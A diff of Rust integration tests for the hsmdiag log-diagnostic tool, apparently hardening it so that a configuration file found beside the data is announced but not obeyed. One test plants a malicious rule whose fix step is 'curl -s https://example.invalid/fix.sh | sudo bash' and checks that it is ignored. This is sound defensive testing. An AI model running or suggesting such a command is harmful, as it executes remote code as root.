@@ -455,28 +455,67 @@ fn a_configuration_file_and_the_environment() {
             .arg(&info);
         c.output().unwrap()
     };
-    // fail-on = "info" from the working folder's hsmdiag.toml.
-    assert_eq!(in_dir(&[]).status.code(), Some(1));
-    assert_eq!(in_dir(&["--fail-on", "warning"]).status.code(), Some(0));
-    assert_eq!(in_dir(&["--no-config"]).status.code(), Some(0));
-    let v = in_dir(&["-v"]);
-    assert!(stderr(&v).contains("hsmdiag.toml"), "{}", stderr(&v));
-    // A folder below finds it too.
+    // A hsmdiag.toml in the working folder is announced, not obeyed.
+    let found = in_dir(&[]);
+    assert_eq!(found.status.code(), Some(0));
+    assert!(
+        stderr(&found).contains("not reading ./hsmdiag.toml")
+            && stderr(&found).contains("--config ./hsmdiag.toml"),
+        "{}",
+        stderr(&found)
+    );
+    assert!(stderr(&in_dir(&["-q"])).is_empty(), "-q silences the note");
+    // Named with --config, it is read: fail-on = "info".
+    assert_eq!(in_dir(&["--config", "hsmdiag.toml"]).status.code(), Some(1));
+    assert_eq!(
+        in_dir(&["--config", "hsmdiag.toml", "--fail-on", "warning"])
+            .status
+            .code(),
+        Some(0)
+    );
+    let v = in_dir(&["--config", "hsmdiag.toml", "-v"]);
+    assert!(
+        stderr(&v).contains("configuration from hsmdiag.toml"),
+        "{}",
+        stderr(&v)
+    );
+    // The user's own configuration folder, and HSMDIAG_CONFIG, are obeyed.
+    let home = dir.join("home");
+    std::fs::create_dir_all(home.join("hsmdiag")).unwrap();
+    std::fs::copy(dir.join("hsmdiag.toml"), home.join("hsmdiag/hsmdiag.toml")).unwrap();
+    let user = Command::new(env!("CARGO_BIN_EXE_hsmdiag"))
+        .current_dir(dir.join(".."))
+        .env_remove("HSMDIAG_CONFIG")
+        .env("XDG_CONFIG_HOME", &home)
+        .arg(&info)
+        .output()
+        .unwrap();
+    assert_eq!(user.status.code(), Some(1), "{}", stderr(&user));
+    let env = Command::new(env!("CARGO_BIN_EXE_hsmdiag"))
+        .current_dir(dir.join(".."))
+        .env("HSMDIAG_CONFIG", dir.join("hsmdiag.toml"))
+        .arg(&info)
+        .output()
+        .unwrap();
+    assert_eq!(env.status.code(), Some(1));
+    // A folder below finds it too, and does not obey it either.
     std::fs::create_dir_all(dir.join("below")).unwrap();
     let o = Command::new(env!("CARGO_BIN_EXE_hsmdiag"))
         .current_dir(dir.join("below"))
         .env_remove("HSMDIAG_CONFIG")
+        .env("XDG_CONFIG_HOME", dir.join("nothing-here"))
         .arg(&info)
         .output()
         .unwrap();
-    assert_eq!(o.status.code(), Some(1));
+    assert_eq!(o.status.code(), Some(0));
+    assert!(stderr(&o).contains("hsmdiag.toml"), "{}", stderr(&o));
     // A wrong key: the file, the line, what is allowed.
     std::fs::write(
         dir.join("hsmdiag.toml"),
         "fail-on = \"info\"\nfail_on = 3\n",
     )
     .unwrap();
-    let bad = in_dir(&[]);
+    let bad = in_dir(&["--config", "hsmdiag.toml"]);
     assert_eq!(bad.status.code(), Some(2));
     let e = stderr(&bad);
     assert!(
@@ -541,4 +580,82 @@ fn a_terminal_on_stdin_gets_a_hint() {
     assert!(e.contains("reading a log from the terminal"), "{e}");
     assert!(e.lines().count() == 1, "{e}");
     assert_eq!(out.status.code(), Some(0));
+}
+
+/// An extracted customer archive that carries its own hsmdiag.toml: it tries
+/// to leave the failing log out, lower the fail level to critical and add a
+/// rule whose fix step pipes a download into a root shell. None of it is
+/// obeyed; the failing log's finding is reported as from the log alone.
+#[test]
+fn a_configuration_beside_the_data_changes_nothing() {
+    let dir = crate::scratch("config-untrusted");
+    std::fs::create_dir(dir.join("logs")).unwrap();
+    std::fs::copy(
+        Path::new(root!()).join("samples/ntls/article-unknown-ca.log"),
+        dir.join("logs/failing.log"),
+    )
+    .unwrap();
+    std::fs::create_dir(dir.join("evil")).unwrap();
+    let rule = std::fs::read_to_string(Path::new(root!()).join("docs/examples/site/pool-exhausted.toml"))
+        .unwrap()
+        .replace(
+            "step = \"Raise the pool size",
+            "command = \"curl -s https://example.invalid/fix.sh | sudo bash\"\nstep = \"Raise the pool size",
+        );
+    std::fs::write(dir.join("evil/rule.toml"), rule).unwrap();
+    std::fs::write(
+        dir.join("hsmdiag.toml"),
+        "exclude = [\"failing.log\"]\nfail-on = \"critical\"\nrules = [\"evil\"]\ngrammar = [\"evil\"]\n",
+    )
+    .unwrap();
+    let o = Command::new(env!("CARGO_BIN_EXE_hsmdiag"))
+        .current_dir(&dir)
+        .env_remove("HSMDIAG_CONFIG")
+        .env("XDG_CONFIG_HOME", dir.join("nothing-here"))
+        .env("NO_COLOR", "1")
+        .args(["--format", "json", "logs"])
+        .output()
+        .unwrap();
+    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
+    let report: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
+    let ids: Vec<&str> = report["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|f| f["id"].as_str().unwrap())
+        .collect();
+    assert_eq!(ids, ["ntls.unknown_ca"]);
+    assert!(!String::from_utf8_lossy(&o.stdout).contains("curl"));
+    assert!(
+        stderr(&o).contains("not reading ./hsmdiag.toml"),
+        "{}",
+        stderr(&o)
+    );
+    std::fs::remove_dir_all(&dir).ok();
+}
+
+/// A finding of a user's rule names the rule's file in every format.
+#[test]
+fn a_user_rule_finding_names_its_file_in_every_format() {
+    let file = "docs/examples/site/pool-exhausted.toml";
+    for format in ["text", "json", "jsonl", "markdown", "sarif", "html"] {
+        let o = run(&[
+            "--rules",
+            file,
+            "--grammar",
+            "docs/examples/site/signer-grammar.toml",
+            "--format",
+            format,
+            "docs/examples/site/signer.log",
+        ]);
+        let out = stdout(&o);
+        assert!(out.contains("HSM801"), "{format}: {out}");
+        assert!(
+            out.contains(file),
+            "{format} does not name the rule's file: {out}"
+        );
+    }
+    // A built-in rule's finding names no file.
+    let o = run(&["--format", "json", "samples/ntls/article-unknown-ca.log"]);
+    assert!(!stdout(&o).contains("rule_file"));
 }
